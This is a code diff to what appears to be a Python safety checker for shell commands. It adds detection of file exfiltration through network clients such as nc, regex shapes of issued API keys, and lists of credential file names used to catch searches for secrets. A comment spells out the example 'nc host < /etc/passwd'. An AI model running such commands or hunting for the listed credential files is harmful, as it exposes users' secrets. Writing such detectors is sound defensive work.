@@ -110,6 +110,10 @@ def judge(name: str, words: list[str], ctx: Ctx, cmd: Command | None) -> list[Ef
         for line in cmd.stdin_text.splitlines():
             if line.lstrip().startswith("!"):
                 ctx.check_text(line.lstrip()[1:], f"{name} shell escape")
+    if cmd is not None and any(e.kind in ("net", "send") for e in effects):
+        for e in effects:  # ``nc host < /etc/passwd``: a file on stdin of a network client is sent
+            if e.kind == "read" and e.word.startswith("<") and e.cls in pc.SENSITIVE_SEND:
+                ctx.block("exfiltration", f"sends {_W[e.cls]} to the network: '{name} {e.word}'")
     for opt, text in _command_options(name, words):
         ctx.check_text(text, f"{name} {opt}")
     if name not in SHELL_NAMES and name not in ("nc", "ncat", "socat"):
@@ -211,7 +215,13 @@ def _one(e: Effect, name: str, exempt: bool, ctx: Ctx) -> None:
 # -- across commands ---------------------------------------------------------------------
 
 _SECRET_SEARCH = re.compile(r"(?i)private key|id_rsa|id_ed25519|id_ecdsa|\.pem\b|\.key\b|\.p12\b|\.pfx\b|\.kdbx\b|"
-                            r"secret|passw|token|api_?key|credential|aws_access|\.env\b|wallet")
+                            r"secret|passw|token|api_?key|credential|aws_access|\.env\b|wallet|"
+                            # the shapes of issued keys: AWS, GitHub, Slack, OpenAI-style, GitLab, Google
+                            r"\b(?:AKIA|ASIA)|\bgh[pousr]_|github_pat_|\bxox[abpr]-|\bsk-|\bglpat-|\bAIza")
+#: file names of keys and credential stores, to recognise a glob that hunts for them (``-name 'id_*'``)
+_CREDENTIAL_NAMES = ("id_rsa", "id_ed25519", "id_ecdsa", "id_dsa", "credentials", "server.key", "cert.pem", ".netrc",
+                     ".pgpass", ".git-credentials", "wallet.dat", "vault.kdbx", "cert.pfx", "cert.p12", "secrets.json")
+_ORDINARY_NAMES = ("main.py", "README.md", "index.js", "Makefile", "notes.txt", "app.log", "package.json")
 _SEARCHERS = frozenset({"grep", "egrep", "fgrep", "rg", "ag", "ack", "find", "fd", "locate"})
 
 
@@ -228,7 +238,12 @@ def secret_search(name: str, words: list[str], ctx: Ctx) -> None:
         return
     recursive = name in ("find", "fd", "locate", "rg", "ag", "ack") or any(
         a.startswith("-") and not a.startswith("--") and ("r" in a or "R" in a) or a == "--recursive" for a in args)
-    if recursive and any(_SECRET_SEARCH.search(a) for a in args if a not in roots):
+    import fnmatch
+
+    globs = [args[i + 1] for i, a in enumerate(args[:-1]) if a in ("-name", "-iname", "-path", "-ipath", "-g", "--glob")]
+    hunting = any(any(fnmatch.fnmatch(n, g) for n in _CREDENTIAL_NAMES) and
+                  not any(fnmatch.fnmatch(n, g) for n in _ORDINARY_NAMES) for g in globs)
+    if recursive and (hunting or any(_SECRET_SEARCH.search(a) for a in args if a not in roots)):
         ctx.block("credential_theft", f"searches {roots[0] if roots else 'the disk'} for keys or secrets: "
                                       f"'{name} {' '.join(args)[:60]}'")
 
@@ -338,6 +353,8 @@ def judge_pipeline(pipe: object, ctx: Ctx) -> None:
         if name in ("env", "printenv", "set", "export", "declare", "get-childitem") and len(words) <= 2 and \
                 (name != "get-childitem" or "env:" in " ".join(words).lower()):
             source = "the environment"
+        if name == "history" or name == "fc" and "-l" in words or name == "get-history":
+            source = "shell history"
         if name in ("ssh", "scp") and source is None:
             continue
 
